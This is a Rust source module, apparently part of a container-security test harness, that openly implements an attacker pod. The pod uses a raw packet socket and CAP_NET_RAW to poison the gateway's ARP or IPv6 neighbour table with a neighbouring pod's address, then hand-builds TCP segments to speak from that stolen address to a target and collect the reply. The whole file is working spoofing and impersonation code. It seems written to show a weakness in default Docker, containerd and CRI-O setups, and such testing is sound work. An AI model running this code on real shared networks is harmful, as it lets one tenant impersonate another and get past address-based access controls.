//! An attacker in a pod on a shared bridge, with `CAP_NET_RAW` and nothing else: it takes a neighbour's address, by ARP or by
//! IPv6's neighbour discovery (NDP), and speaks TCP from it through a packet socket. What Docker, containerd and CRI-O let
//! every pod do by default.

mod neighbour;
mod tcp;

use std::io::{self, ErrorKind, Read};
use std::net::{IpAddr, SocketAddr};
use std::os::fd::AsRawFd;
use std::time::{Duration, Instant};

use nix::ifaddrs::getifaddrs;
use nix::sys::socket::{LinkAddr, bind};
use socket2::{Domain, Protocol, Socket, Type};

use super::{Error, Namespace};
use neighbour::{Message, Theft};
use tcp::{ACK, FIN, PUSH, RST, SYN, Segment, Talk};

/// `htons(ETH_P_ALL)`.
const EVERY_PROTOCOL: u16 = 3_u16.to_be();
const PORT: u16 = 40_000;
const SEQUENCE: u32 = 0x1000_0000;
/// Between two attempts to move the neighbour's address: the kernel does not believe every one of them.
const AGAIN: Duration = Duration::from_millis(100);

/// A hardware address.
type Hardware = [u8; 6];

/// The attacker's packet socket.
#[derive(Debug)]
pub struct Impostor {
    socket: Socket,
    hardware: Hardware,
}

impl Impostor {
    /// Opens a packet socket on the pod's `eth0`.
    pub fn new(pod: &Namespace) -> Result<Self, Error> {
        pod.enter(open)?.map_err(Error::Kernel)
    }

    /// Takes `victim`'s address from the gateway's neighbour table, connects from it to `target` by way of `gateway`,
    /// sends `request` and returns all that is answered until the other end closes, or `patience` is over.
    pub fn ask(
        &mut self,
        victim: IpAddr,
        gateway: IpAddr,
        target: SocketAddr,
        request: &[u8],
        patience: Duration,
    ) -> io::Result<Vec<u8>> {
        let end = Instant::now() + patience;
        let mut talk = Talk {
            from: SocketAddr::new(victim, PORT),
            to: target,
            sequence: SEQUENCE,
            acknowledged: 0,
        };
        let theft = Theft::new(self.hardware, victim, gateway)?;
        let mut router = None;
        let mut answer = Vec::new();
        let mut next = Instant::now();
        let mut is_open = false;
        while Instant::now() < end {
            if !is_open && Instant::now() >= next {
                next += AGAIN;
                // It asks for the gateway in the victim's name: the gateway notes where the answer goes.
                self.send(&theft.question())?;
                if let Some(router) = router {
                    self.send(&self.frame(router, &talk.segment(SYN, b"")))?;
                }
            }
            let Some(frame) = self.receive()? else {
                continue;
            };
            match theft.read(&frame) {
                Some(Message::Here(hardware)) => {
                    router = Some(hardware);
                    continue;
                }
                Some(Message::Where(hardware)) => {
                    router = Some(hardware);
                    self.send(&theft.answer(hardware))?;
                    continue;
                }
                None => {}
            }
            let (Some(router), Some(segment)) = (router, Segment::read(&frame, &talk)) else {
                continue;
            };
            if segment.flags & RST != 0 {
                return Err(ErrorKind::ConnectionReset.into());
            }
            if segment.flags & SYN != 0 && !is_open {
                is_open = true;
                talk.sequence += 1;
                talk.acknowledged = segment.sequence.wrapping_add(1);
                self.send(&self.frame(router, &talk.segment(ACK, b"")))?;
                self.send(&self.frame(router, &talk.segment(ACK | PUSH, request)))?;
                talk.sequence += u32::try_from(request.len()).map_err(io::Error::other)?;
            } else if is_open && segment.sequence == talk.acknowledged {
                answer.extend_from_slice(segment.payload);
                let length = u32::try_from(segment.payload.len()).map_err(io::Error::other)?;
                let is_end = segment.flags & FIN != 0;
                talk.acknowledged = talk.acknowledged.wrapping_add(length + u32::from(is_end));
                self.send(&self.frame(router, &talk.segment(ACK, b"")))?;
                if is_end {
                    return Ok(answer);
                }
            }
        }
        if answer.is_empty() {
            Err(ErrorKind::TimedOut.into())
        } else {
            Ok(answer)
        }
    }

    fn send(&self, frame: &[u8]) -> io::Result<()> {
        self.socket.send(frame).map(drop)
    }

    fn receive(&mut self) -> io::Result<Option<Vec<u8>>> {
        let mut frame = vec![0; 1 << 16];
        match self.socket.read(&mut frame) {
            Ok(length) => {
                frame.truncate(length);
                Ok(Some(frame))
            }
            Err(error) if matches!(error.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => {
                Ok(None)
            }
            Err(error) => Err(error),
        }
    }

    fn frame(&self, to: Hardware, packet: &[u8]) -> Vec<u8> {
        let ethertype: u16 = if packet[0] >> 4 == 6 { 0x86dd } else { 0x0800 };
        [&to[..], &self.hardware, &ethertype.to_be_bytes(), packet].concat()
    }
}

fn open() -> io::Result<Impostor> {
    let link = getifaddrs()?
        .filter(|interface| interface.interface_name == "eth0")
        .find_map(|interface| interface.address?.as_link_addr().copied())
        .ok_or(ErrorKind::NotFound)?;
    let hardware = LinkAddr::addr(&link).ok_or(ErrorKind::NotFound)?;
    let protocol = Protocol::from(i32::from(EVERY_PROTOCOL));
    let socket = Socket::new(Domain::PACKET, Type::RAW, Some(protocol))?;
    bind(socket.as_raw_fd(), &link)?;
    socket.set_read_timeout(Some(Duration::from_millis(10)))?;
    Ok(Impostor { socket, hardware })
}
